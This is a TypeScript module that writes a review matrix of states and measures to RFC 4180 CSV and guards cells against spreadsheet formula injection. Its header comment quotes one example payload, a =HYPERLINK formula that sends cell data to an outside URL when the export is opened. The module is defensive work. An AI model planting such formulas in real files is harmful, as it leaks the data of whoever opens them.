/**
 * The review as CSV (RFC 4180: comma-separated, CRLF line ends, a field in double quotes when
 * it holds a comma, a quote or a line break, a quote inside written twice).
 *
 * Cells are made safe against formula injection: spreadsheet programs (Excel, LibreOffice,
 * Google Sheets) run a cell that begins with = + - or @ (and some also one beginning with a tab
 * or carriage return) as a formula. A report's text is written by a delegation, so a report
 * beginning `=HYPERLINK("https://…?"&A2, "details")` would, once the secretariat opens the
 * export, send other states' data away or run commands. Such cells get a leading apostrophe,
 * which the programs show as text and which a reader sees for what it is (OWASP's advice).
 * No cell of ours is a negative number, so none is changed by it.
 */
import type { ReviewMatrix } from './review-matrix.ts';

export interface ReviewCsvOptions {
  /**
   * `long` (default): one row per state and measure, every detail in its own column — for
   * analysis. `wide`: one row per state, one column per measure, the status in each cell — the
   * matrix as it is read on screen.
   */
  readonly layout?: 'long' | 'wide';
  /** A name for each state code (the organisation's display names); the code when absent. */
  readonly stateName?: (code: string) => string;
}

export function reviewCsv(matrix: ReviewMatrix, options: ReviewCsvOptions = {}): string {
  const name = options.stateName ?? ((code: string) => code);
  const rows = options.layout === 'wide' ? wideRows(matrix, name) : longRows(matrix, name);
  return rows.map((row) => row.map(csvField).join(',')).join('\r\n') + '\r\n';
}

function longRows(matrix: ReviewMatrix, name: (code: string) => string): string[][] {
  const header = ['period', 'state', 'state_name', 'measure_id', 'measure', 'measure_text', 'status', 'mode', 'partners', 'report_period', 'report'];
  const rows = matrix.states.flatMap((state, row) =>
    matrix.measures.map((measure, column) => {
      const cell = matrix.cells[row]?.[column];
      return [
        matrix.period ?? '',
        state,
        name(state),
        measure.id,
        measure.label,
        measure.text,
        cell?.status ?? '',
        cell?.mode ?? '',
        (cell?.partners ?? []).join(' '),
        cell?.report?.period ?? '',
        cell?.report?.text ?? '',
      ];
    }),
  );
  return [header, ...rows];
}

function wideRows(matrix: ReviewMatrix, name: (code: string) => string): string[][] {
  // A number used twice while negotiated (the seed's two 2.3.3) is told apart by its provision id.
  const uses = new Map<string, number>();
  for (const measure of matrix.measures) uses.set(measure.label, (uses.get(measure.label) ?? 0) + 1);
  const header = ['state', 'state_name', ...matrix.measures.map((m) => ((uses.get(m.label) ?? 0) > 1 ? `${m.label} (${m.id})` : m.label))];
  const rows = matrix.states.map((state, row) => [state, name(state), ...matrix.measures.map((_, column) => matrix.cells[row]?.[column]?.status ?? '')]);
  return [header, ...rows];
}

/** One field, safe for spreadsheets and quoted as RFC 4180 requires. */
export function csvField(value: string): string {
  const safe = /^[=+\-@\t\r]/u.test(value) ? `'${value}` : value;
  return /[",\r\n]/u.test(safe) ? `"${safe.replace(/"/gu, '""')}"` : safe;
}
